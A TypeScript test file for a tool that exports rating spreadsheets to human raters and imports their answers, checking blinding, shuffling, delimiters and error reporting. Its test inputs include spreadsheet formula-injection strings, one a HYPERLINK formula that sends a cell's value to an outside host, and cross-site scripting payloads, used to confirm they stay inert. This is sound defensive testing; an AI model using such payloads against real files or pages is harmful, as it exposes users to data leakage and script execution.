import { reportPage } from "corrigenda/report";
import { csvRecords } from "corrigenda/text";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readSheet, type SheetRow, writeSheet } from "../../lib/whyfix/ratings-csv.ts";
import { findingsOf } from "../../lib/whyfix/ratings-findings.ts";
import { importSheets } from "../../lib/whyfix/ratings-import.ts";
import { ratingsReport } from "../../lib/whyfix/ratings-report.ts";
import { guideText } from "../../lib/whyfix/ratings-scales.ts";
import { type KeyLine, makeSheets, type Sheet } from "../../lib/whyfix/ratings-sheets.ts";
import { CHOICE, recordOf, recordsOf } from "./records.ts";

async function collected(content: string): Promise<SheetRow[]> {
  const rows: SheetRow[] = [];
  for await (const row of readSheet(content)) rows.push(row);
  return rows;
}

/** A sheet's cells as a spreadsheet reads them. */
async function rawCells(content: string): Promise<string[][]> {
  const once = async function* () {
    yield content.replace(/^\uFEFF/, "");
  };
  const rows: string[][] = [];
  for await (const record of csvRecords(once())) rows.push("fields" in record ? [...record.fields] : []);
  return rows;
}

/** A sheet filled in by a function of its row, saved with another sign between cells. */
async function filled(sheet: Sheet, fill: (row: Record<string, string>) => Record<string, string>, sign = ",") {
  const [columns = [], ...rows] = await rawCells(sheet.content);
  const lines = rows.map((row) => {
    const cells = Object.fromEntries(columns.map((name, at) => [name, row[at] ?? ""]));
    const after = { ...cells, ...fill(cells) };
    return columns.map((name) => after[name] ?? "");
  });
  const content = [columns, ...lines]
    .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(sign))
    .join("\r\n");
  return { file: `back/${sheet.file}`, content };
}

const PLANTED = [
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  ...["+1", "@SUM(A1:A9)", "-2+3", "＝1+1", "  =1", "\t=1", "'=not mine to strip", "''+1", "'plain quote"],
  '<script>alert("rated")</script><img src=x onerror=alert(1)>',
  'in much of Europe ";=1+1;  -2',
  "a list\n- one\n=two",
  'commas, "quotes"; semicolons\nand a second line',
  "為什麼要換？ café 🎈",
];

describe("a planted formula or script", () => {
  const records = PLANTED.flatMap((text, at) => [
    recordOf(at, "baseline", "fifty", text),
    recordOf(at, "baseline", "eighty", `${text} longer`),
  ]);
  const { sheets, key } = makeSheets(records, { ...CHOICE, rows: PLANTED.length });

  test("stays inert in the CSV: no cell starts with what a spreadsheet computes", async () => {
    for (const { content } of sheets) {
      expect([...new TextEncoder().encode(content).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const cells = (await rawCells(content)).flat();
      expect(cells.length).toBeGreaterThan(PLANTED.length * 4);
      for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      // Read as if semicolons, tabs and line breaks were borders, quoted or not.
      for (const cell of content.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    }
  });

  test("comes back unchanged: every text is the one that was exported, and nothing is told of it", async () => {
    const back = await Promise.all(sheets.map((sheet) => filled(sheet, () => ({ Accuracy: "4", Preference: "A" }))));
    const { problems, ratings } = await importSheets(back, key);
    expect(problems).toEqual([]);
    expect(ratings).toHaveLength(PLANTED.length * 4);
    const texts = (await collected(sheets.find(({ file }) => file === "anna-scores.csv")?.content ?? "")).flatMap(
      (row) => ("cells" in row ? [row.cells.explanation] : []),
    );
    expect(texts.sort()).toEqual([...PLANTED].sort());
  });

  test("stays inert in the page, which shows it as text", async () => {
    const back = await Promise.all(
      sheets.map((sheet) =>
        filled(sheet, () => ({ Accuracy: sheet.file.startsWith("anna") ? "1" : "5", comment: PLANTED[10] ?? "" })),
      ),
    );
    const imported = await importSheets(back, key);
    const findings = findingsOf(imported.ratings, 1);
    const html = reportPage(ratingsReport({ run: "0622-1458", provider: "offline", imported, key, findings }), "");
    expect(html).toContain("alert(");
    expect(html).not.toMatch(/<script>alert|<img src=x/);
  });

  test("any text goes there and back", async () => {
    const text = fc.string({
      unit: fc.constantFrom("=", "+", "'", " ", "a", ";", '"', ",", "\n", "\t", "@", "-", "\r\n"),
    });
    await fc.assert(
      fc.asyncProperty(text, text, async (a, b) => {
        fc.pre(`${a}${b}`.trim() !== "");
        const [row] = await collected(writeSheet(["a", "b"], [{ a, b }]));
        expect(row && "cells" in row && row.cells).toEqual({ a, b });
      }),
    );
  });
});

describe("sheets", () => {
  const { sheets, key } = makeSheets(recordsOf(30), CHOICE);
  const of = (rater: string, sheet: string): KeyLine[] =>
    key.filter((line) => line.rater === rater && line.sheet === sheet);

  test("each rater gets the same explanations in an order of their own; the same seed gives the same bytes", () => {
    expect(sheets.map(({ file }) => file)).toEqual([
      "anna-scores.csv",
      "anna-pairs.csv",
      "ben-scores.csv",
      "ben-pairs.csv",
    ]);
    const items = (rater: string) => of(rater, "scores").map(({ shown }) => shown[0]?.custom_id);
    expect(items("anna")).not.toEqual(items("ben"));
    expect(items("anna").sort()).toEqual(items("ben").sort());
    expect(items("anna")).toHaveLength(40);
    expect(makeSheets(recordsOf(30).reverse(), CHOICE).sheets.map(({ file }) => file)).toHaveLength(4);
    expect(makeSheets(recordsOf(30), CHOICE)).toEqual({ sheets, key });
    expect(makeSheets(recordsOf(30), { ...CHOICE, seed: 7 }).sheets[0]?.content).not.toBe(sheets[0]?.content);
  });

  test("nothing in a sheet tells the method, the length, the context or the request", () => {
    const bare = makeSheets(
      recordsOf(5).map((record) => ({ ...record, content_payload: { explanation_en: "x" } })),
      CHOICE,
    );
    for (const { content } of bare.sheets) expect(content).not.toMatch(/baseline|dictionary|fifty|eighty|target|lg_fu/);
    expect(guideText()).not.toMatch(/baseline|dictionary|fifty|eighty/);
  });

  test("sides are turned by chance: the first of a contrast stands on A for about half of the pairs", () => {
    const turned = of("anna", "pairs").filter(({ first }) => first === 1).length;
    // Binomial(40, 1/2): outside [10, 30] with a chance of 0.0011
    expect(turned).toBeGreaterThanOrEqual(10);
    expect(turned).toBeLessThanOrEqual(30);
  });

  test("records without an explanation, and learner errors that a method did not explain, are not rated", () => {
    const records = [...recordsOf(3), recordOf(7, "baseline", "fifty", "alone"), recordOf(1, "causes", "fifty", "x")];
    const knowledge = records.map((record) =>
      record.method === "causes" ? { ...record, content_payload: { matched: [] } } : record,
    );
    const made = makeSheets(knowledge, CHOICE);
    expect([...new Set(made.key.map(({ data_index }) => data_index))].sort()).toEqual([0, 1, 2]);
    expect([...new Set(made.key.map(({ method }) => method))].sort()).toEqual(["baseline", "dictionary"]);
  });

  test.each([
    [{ raters: ["anna"] }, "name two or more different raters"],
    [{ raters: ["../x", "ben"] }, "is not a name of 1 to 20 letters and digits"],
    [{ methods: ["magic"] }, 'has the method "magic"; there are baseline, dictionary'],
    [{ length: "ninety" }, 'has the length "ninety"; there are fifty, eighty'],
  ])("a choice that cannot be is refused: %j", (choice, says) => {
    expect(() => makeSheets(recordsOf(3), { ...CHOICE, ...choice })).toThrow(says);
  });
});

describe("import", () => {
  const { sheets, key } = makeSheets(recordsOf(6), CHOICE);
  const [scores, pairs] = sheets as [Sheet, Sheet];

  test("A and B become the sides of the contrast again: who prefers the longer text prefers the second, on any side", async () => {
    const longer = (row: Record<string, string>) => ((row.A ?? "").length > (row.B ?? "").length ? "A" : "b ");
    const { ratings } = await importSheets([await filled(pairs, (row) => ({ Preference: longer(row) }))], key);
    expect(ratings.map(({ value }) => value)).toEqual(ratings.map(() => "second"));
    expect(new Set(ratings.map(({ place }) => place))).toEqual(new Set(["A", "B"]));
    expect(ratings[0]?.contrast).toBe("fifty or eighty");
  });

  test.each([",", ";", "\t"])("a file saved with %j between its cells is read", async (sign) => {
    const back = await filled(scores, () => ({ Accuracy: "4.0", Helpfulness: "2" }), sign);
    const { ratings, problems } = await importSheets([back], key);
    expect(problems).toEqual([]);
    expect(ratings.map(({ value }) => value)).toEqual(ratings.map((_, at) => (at % 2 === 0 ? "4" : "2")));
    expect(ratings).toHaveLength(24);
  });

  test("bad cells, ids and rows are told by file and line; the rest counts; empty cells and rows that are missing are counted", async () => {
    let n = 0;
    const fill = () =>
      [{ Accuracy: "6" }, { Accuracy: "" }, { id: "anna-s0001-0000" }, { explanation: "changed", Accuracy: "3" }][
        n++
      ] ?? { Accuracy: "5" };
    const { content, file } = await filled(scores, fill);
    const lines = content.split("\r\n");
    const changed = [...lines, lines[6] ?? "", '"only","three","cells"', '"a stray "quote"'].join("\r\n");
    const { ratings, problems, empty, missing } = await importSheets([{ file, content: changed }], key);
    expect(problems).toEqual([
      { file, line: 2, reason: 'Accuracy is "6"; allowed are 1, 2, 3, 4, 5' },
      { file, line: 4, reason: 'id "anna-s0001-0000" is not in this run\'s key' },
      { file, line: 5, reason: "an explanation is not as it was exported; the ratings are kept" },
      {
        file,
        line: 14,
        reason: expect.stringMatching(/^id anna-s0006-.* was read before, at back\/anna-scores.csv:7$/),
      },
      { file, line: 15, reason: "3 cells where the first line has 6" },
      { file, line: 16, reason: "text after a closing quote" },
    ]);
    expect(ratings).toHaveLength(9);
    expect(empty).toBe(12);
    expect(missing).toBe(key.length - 11);
  });
});
